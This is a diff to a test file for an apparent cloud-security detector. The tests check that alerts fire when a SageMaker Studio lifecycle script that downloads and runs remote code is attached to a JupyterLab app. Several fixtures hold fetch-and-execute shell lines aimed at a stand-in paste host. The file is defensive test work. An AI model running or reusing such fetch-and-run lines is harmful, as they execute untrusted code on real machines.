@@ -21,6 +21,11 @@ const lifecycle = (name: string, script: string, hook: 'onStart' | 'onCreate' = 
   rec('CreateNotebookInstanceLifecycleConfig', { notebookInstanceLifecycleConfigName: name, [hook]: [{ content: b64(script) }] }, {
     responseElements: { notebookInstanceLifecycleConfigArn: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:notebook-instance-lifecycle-config/${name}` },
   });
+const studioArn = (name: string) => `arn:aws:sagemaker:us-east-1:${ACCOUNT}:studio-lifecycle-config/${name}`;
+const studioLc = (name: string, script: string) =>
+  rec('CreateStudioLifecycleConfig', { studioLifecycleConfigName: name, studioLifecycleConfigContent: b64(script), studioLifecycleConfigAppType: 'JupyterLab' }, {
+    responseElements: { studioLifecycleConfigArn: studioArn(name) },
+  });
 const piped = (script: string) => lifecycle('lc-gap', script).details?.script_piped_to_shell;
 const codeUris = (script: string) => lifecycle('lc-gap', script).details?.script_code_uris;
 
@@ -81,5 +86,34 @@ describe('a cron job the script writes', () => {
     expect(piped('#!/bin/bash\n(crontab -l 2>/dev/null; echo "*/5 * * * * /usr/bin/python3 /opt/team/autostop.py --time 3600") | crontab -')).toBeUndefined();
     expect(piped('#!/bin/bash\necho "curl -s https://paste.example.net/raw/x | bash" > /tmp/notes.txt')).toBeUndefined();
     expect(alertsOf([lifecycle('lc-autostop', '#!/bin/bash\nset -ex\nwget https://raw.githubusercontent.com/aws-samples/amazon-sagemaker-notebook-instance-lifecycle-config-samples/master/scripts/auto-stop-idle/autostop.py\n(crontab -l 2>/dev/null; echo "*/5 * * * * /usr/bin/python3 $PWD/autostop.py --time 3600 >> /var/log/jupyter.log") | crontab -\n')])).toEqual([]);
+  });
+});
+
+describe('a Studio app started with a lifecycle configuration (CreateApp)', () => {
+  const app = (lcName: string, extra: Record<string, unknown> = {}) =>
+    rec('CreateApp', { domainId: 'd-abc123', userProfileName: 'bob', appType: 'JupyterLab', appName: 'default', resourceSpec: { instanceType: 'ml.t3.medium', lifecycleConfigArn: studioArn(lcName) }, ...extra }, {
+      responseElements: { appArn: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:app/d-abc123/bob/jupyterlab/default` },
+    });
+  it('one seen written with a bad script is the attach: alerts on the app', () => {
+    const lc = studioLc('jl-bad', '#!/bin/bash\ncurl -so /tmp/b.sh https://paste.example.net/raw/zz && bash /tmp/b.sh');
+    const started = app('jl-bad');
+    expect(started.details?.studio_lifecycle_config_arns).toEqual([studioArn('jl-bad')]);
+    const alerts = alertsOf([lc, started]);
+    expect(alerts.map((a) => a.evidence)).toEqual([[lc.id], [started.id]]);
+    expect(alerts[1]!.entity).toMatchObject({ type: 'app' });
+    expect(alerts[1]!.details).toMatchObject({
+      finding: 'untrusted_lifecycle_script', operation: 'CreateApp', lifecycle_configs: ['jl-bad'], hooks: ['studio'],
+      attached_to: 'JupyterLab app default of user profile bob (domain d-abc123)', piped_to_shell: ['https://paste.example.net/raw/zz'],
+    });
+    // In a space too.
+    const inSpace = app('jl-bad', { userProfileName: undefined, spaceName: 'team' });
+    expect(alertsOf([lc, inSpace])[1]!.details?.attached_to).toBe('JupyterLab app default of space team (domain d-abc123)');
+  });
+  it('an unseen or clean configuration, or an app with none, raises nothing', () => {
+    expect(alertsOf([app('jl-unseen')])).toEqual([]);
+    expect(alertsOf([studioLc('jl-clean', '#!/bin/bash\npip install --upgrade pandas'), app('jl-clean')])).toEqual([]);
+    const plain = rec('CreateApp', { domainId: 'd-abc123', userProfileName: 'bob', appType: 'JupyterLab', appName: 'default', resourceSpec: { instanceType: 'ml.t3.medium' } });
+    expect(plain.details?.studio_lifecycle_config_arns).toBeUndefined();
+    expect(alertsOf([plain])).toEqual([]);
   });
 });
